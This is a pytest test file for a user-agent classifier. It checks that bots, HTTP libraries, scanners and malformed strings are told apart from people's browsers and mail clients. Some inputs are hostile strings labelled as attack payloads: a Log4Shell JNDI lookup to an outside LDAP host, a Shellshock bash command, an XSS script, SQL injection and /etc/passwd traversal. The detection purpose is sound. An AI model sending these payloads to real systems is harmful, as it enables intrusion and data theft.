"""Family rules (issue 27): each machine family caught by what it is, not by a listed
name; people the families must leave alone; products named as people know them.

The strings are written for these tests (no collection's string is copied here); the
table test measures the same rules on the public collections."""

import pytest

from service.tracking.classify import _PLATFORM_COMMENT, Classifier
from tests import ua_table

CLASSIFIER = Classifier.from_files()


@pytest.mark.parametrize(
    ("user_agent", "reason"),
    [
        ("${jndi:ldap://203.0.113.9:1389/a}", "attack_payload"),
        ("() { :; }; /bin/bash -c 'id'", "attack_payload"),
        ("<script>alert(document.domain)</script>", "attack_payload"),
        ("Mozilla/5.0' OR 1=1 --", "attack_payload"),
        ("Mozilla/5.0 (Windows NT 10.0) ../../../../etc/passwd", "attack_payload"),
        (
            "Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion",
            "malformed",
        ),
        ("Zorblax/2.1 (+https://zorblax.example.net/about)", "bot_url"),
        ("Zorblax Harvest Service (ops@zorblax.example.org)", "bot_url"),
        ("ZorblaxLinkCheck/1.0", "bot"),
        ("Zorblax-Synthetics/3.2", "bot"),
        ("Mozilla/5.0 (compatible; Zorblax/1.0)", "bot"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Zorblax-Renderer) "
            "Chrome/120.0.0.0 Safari/537.36",
            "bot",
        ),
        ("zorblax-http-client/0.4", "http_library"),
        ("Zorblax-SDK/5.1 (build 12)", "http_library"),
    ],
)
def test_each_machine_family_is_caught_by_what_it_is(user_agent, reason) -> None:
    found = CLASSIFIER.user_agent(user_agent)
    assert (found.machine_reason, found.client) == (reason, None)


# Second pass (issue 27): the held-out misses, by family. Each string names no listed
# product; the family's words or shape are all there is to go on.
@pytest.mark.parametrize(
    ("user_agent", "reason"),
    [
        ("Zorblax-Security-Headers/1.0", "link_scanner"),
        (
            "zorblax.example/scanning Mozilla/5.0 (Macintosh) Chrome/126.0 Safari/537.36",
            "link_scanner",
        ),
        ("Zorblax Vulnerability Survey 2.0", "link_scanner"),
        ("ZorblaxSync/2.0 XMLHTTP/1.0", "http_library"),
        ("zorblax-http/0.3", "http_library"),
        ("Zorblax/1.2 (Node.js v20.1.0; linux x64)", "http_library"),
        ("zorblax-tool/2.0.1 (linux-gnu x86_64) ruby/3.2.2", "http_library"),
        ("zorblax/1.4 go/go1.22.1 os/linux", "http_library"),
        ("Zorblax REST Client/2.0", "http_library"),
        ("ZorblaxTrackerSDK/3.1.0 (build 7)", "http_library"),
        ("libzorblax/0.9.1", "http_library"),
        ("Zorblax Downloader/6.9", "http_library"),
        ("Zorblax Cron Service/1.0", "bot"),
        ("Zorblax Page Analyzer v1.2", "bot"),
        ("ZorblaxAgent/1.0", "bot"),
        ("ZorblaxHealthService/1.0", "bot"),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Safari/537.36 (+https://zorblax.example.com/about)",
            "bot_url",
        ),
        ("Zorblax Link Expander 1.2", "bot"),
        ("ZorblaxLinkResolver", "bot"),
        ("Zorblax-FeedReader", "bot"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltoimage Safari/534.34",
            "bot",
        ),
        ("ZorblaxMetadataParser/7.7", "bot"),
        ("Zorblax-WebDAV-Redirector/10.0", "http_library"),
        ("ZorblaxPHP", "http_library"),
        ("zorblax-java/3.1.00", "http_library"),
        ("Zorblax-Requests", "http_library"),
        ("Mozilla/5.0 (Windows NT 10.0; en-US) PowerShell/7.4.1", "http_library"),
        ("Zorblax Ranking Updater/2.0", "bot"),
        ("Mozilla/5.0 Zorblax/4.0", "bot"),
        ("Mozilla/5.0 (Zorblax Presence)", "bot"),
        (
            "Mozilla/7.1 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Safari/537.36",
            "malformed",
        ),
        ("Zorblax Custom Hostname Verification", "bot"),
        ("ZorblaxSynthetic/1.2", "bot"),
        ("Google-Zorblax", "bot"),
        ("zorblax-code/2.1 (cli)", "http_library"),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; ops@zorblax.example.org) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "bot_url",
        ),
        ("Zorblax/0.1, ops at zorblax dot example", "bot_url"),
        ("Zorblax SEO Tool", "bot"),
        ('zorblax/21.0 {"ci":null,"cpu":"x86_64"}', "http_library"),
        ("Zorblax Website Monitoring 2", "bot"),
        ("Zorblax ImageResizer/2.0", "bot"),
        (
            "zorblax/1.6.6, Mozilla/5.0 (Windows NT 6.1; WOW64; rv:29.0) Gecko/20100101 "
            "Firefox/29.0",
            "bot",
        ),
        ("zorblaxfinder", "bot"),
        ("Zorblax Integration Services", "bot"),
        ("Zorblax-Stream-Hook", "bot"),
        ("Zorblax Research/1.0", "bot"),
        ("Zorblax-AI-Agent/1.1.2", "bot"),
        ("Zorblax Lead Discovery 2.0", "bot"),
        (
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; ZorblaxPage; "
            "+http://zorblax.example/about)",
            "bot",
        ),
    ],
)
def test_each_held_out_family_is_caught_by_what_it_is(user_agent, reason) -> None:
    found = CLASSIFIER.user_agent(user_agent)
    assert found.machine_reason == reason


CUBOT_PHONE = (
    "Mozilla/5.0 (Linux; Android 12; CUBOT KINGKONG 9 Build/SP1A) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
)
M_BOT_PHONE = (
    "Mozilla/5.0 (Linux; Android 13; M bot 60 Build/TP1A) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36"
)
ELECTRON_APP = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Notion/3.1.0 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36"
)
WEBVIEW_APP = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/120.0.0.0 Mobile Safari/537.36 MailMaster/7.1"
)
COMPANY_BUILD = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 (EXAMPLE.DE/2.0) "
    "Firefox/115.0"
)


@pytest.mark.parametrize(
    ("person", "machine", "reason"),
    [
        # "bot" inside a device model of a phone's platform comment; the same phone's
        # string carrying a robot's token is a robot
        (CUBOT_PHONE, CUBOT_PHONE + " ZorblaxPreview/2.1", "bot"),
        (M_BOT_PHONE, M_BOT_PHONE + " Zorblax-Monitor/1.0", "bot"),
        # an Electron app and an Android WebView app are people; an attack payload in
        # their form is still an attack
        (ELECTRON_APP, ELECTRON_APP + " ${jndi:ldap://203.0.113.9/a}", "attack_payload"),
        (
            WEBVIEW_APP,
            WEBVIEW_APP.replace("Mozilla/5.0", "Mozilla/5.0 ../../etc/passwd"),
            "attack_payload",
        ),
        # a desktop browser build with a company's site in a comment; a robot's string
        # with a site and no system is a robot
        (COMPANY_BUILD, "Zorblax/1.0 (EXAMPLE.DE/2.0)", "bot_url"),
        # "security" inside a browser's comment token is not a security tool
        (
            "Mozilla/5.0 (Linux; U; Android 4.2.2; zh-cn) AppleWebKit/534.30 (KHTML, like Gecko) "
            "Version/4.0 Mobile Safari/534.30 ZorblaxBrowser/2.0 (securitypay,securityinstalled)",
            "Zorblax Security/1.0",
            "link_scanner",
        ),
        # an Android app naming its HTTP stack or runtime is a person; a program is not
        (
            "ZorblaxPodcast/1.0 (com.zorblax.audio; Android 11) OkHttp/4.9.0",
            "ZorblaxSync/1.0 ZorbHTTP/6.4",
            "http_library",
        ),
        (
            "ZorblaxPhone/2.0 (Java; U; MIDP-2.0; en-US) ZorblaxBrowser/9.4",
            "ZorblaxSync/2.0 (Java; custom-client)",
            "http_library",
        ),
        # a mail provider's domain in a desktop browser's build comment; a site signed
        # after the browser's last token
        (
            "Mozilla/5.0 (Windows NT 6.1; rv:1.9.1) Gecko/20091201 (EXAMPLE.DE/1.5) Firefox/3.5.6",
            "Mozilla/5.0 (X11; Linux x86_64; rv:31.0) Gecko/20100101 Firefox/31.0 Zorblax.com",
            "bot_url",
        ),
        # "Reader" as the last part of a reading device's name; a feed reader
        ("ZorblaxReader_4-4-2", "Zorblax FeedReader/2.0", "bot"),
        # a podcast app's "…Detector" component; a measurement job's CamelCase name
        (
            "ZorblaxPod/2.5 (build:1506; iOS 16.6.0) ContentLengthDetector",
            "ZorblaxBench/2.3",
            "bot",
        ),
        # Outlook's own string has a comma before its Mozilla part, after a comment
        (
            "Microsoft Office/16.0 (Microsoft Outlook 16.0.12329; Pro), Mozilla/4.0 "
            "(compatible; ms-office; MSOffice 16)",
            "Zorblax, Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/50.0 Safari/537.36",
            "bot",
        ),
        # an app's name with its version; the bare lowercase word of a script
        ("Zorblax/2.1", "zorblax", "bot"),
        # a mail client's local bridge; a back-end job
        (
            "ZorblaxMail Bridge/3.8.2 (Macintosh; Intel Mac OS X 10_15_7)",
            "ZorblaxMail Sender 0f3c381e",
            "bot",
        ),
        # "agent" as a lowercase part of a podcast app's name; a CamelCase …Agent product
        ("zorblax-agent", "ZorblaxAgent/1.0", "bot"),
    ],
)
def test_the_families_stop_at_people_next_to_the_machines(person, machine, reason) -> None:
    assert CLASSIFIER.user_agent(person).machine_reason is None
    assert CLASSIFIER.user_agent(machine).machine_reason == reason


@pytest.mark.parametrize(
    ("user_agent", "client"),
    [
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko)",
            "Apple Mail",
        ),
        (
            "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            "Mobile/15E148 jp.co.yahoo.ymail/8.2.0",
            "Yahoo Mail",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; rv:10.0) Gecko/20110902 Prism zdesktop/7.2.8",
            "Zimbra Desktop",
        ),
        (
            "Mozilla/5.0 (Windows NT 6.1; rv:38.0) Gecko/20100101 Firefox/38.9 FossaMail/25.2.1",
            "FossaMail",
        ),
    ],
)
def test_mail_clients_are_named_as_people_know_them(user_agent, client) -> None:
    found = CLASSIFIER.user_agent(user_agent)
    assert (found.client, found.machine_reason) == (client, None)


# People of the table a family rule reaches, reviewed: a podcast app that puts only its
# site in its user agent, as crawlers do (indistinguishable by its form).
KNOWN_PEOPLE_HIT = {"bot_url": {"Bullhorn (https://bullhorn.fm)"}}


def test_no_family_rule_fires_on_the_people_of_the_table() -> None:
    """Every machine family against every browser, app, mail client and image proxy of
    the labelled table (issue 27, point 3), rule by rule, wherever it sits in the order."""
    people = [r.user_agent for r in ua_table.load() if r.kind in ua_table.PEOPLE]
    families = [
        *CLASSIFIER._early_families.rules(),
        *((reason, family, True) for reason, family in CLASSIFIER._families.rules()),
    ]
    assert {f[0] for f in families} >= {
        "attack_payload",
        "malformed",
        "bot_url",
        "bot",
        "http_library",
    }
    for reason, family, *late in families:
        hit = {
            ua
            for ua in people
            if not CLASSIFIER._people_app(ua)
            and "ImageProxy" not in ua
            and "MailProxy" not in ua  # the proxies are decided before any family
            and family(ua, _PLATFORM_COMMENT.sub("", ua, count=1) if late else ua)
        }
        assert hit <= KNOWN_PEOPLE_HIT.get(reason, set()), (reason, sorted(hit)[:5])
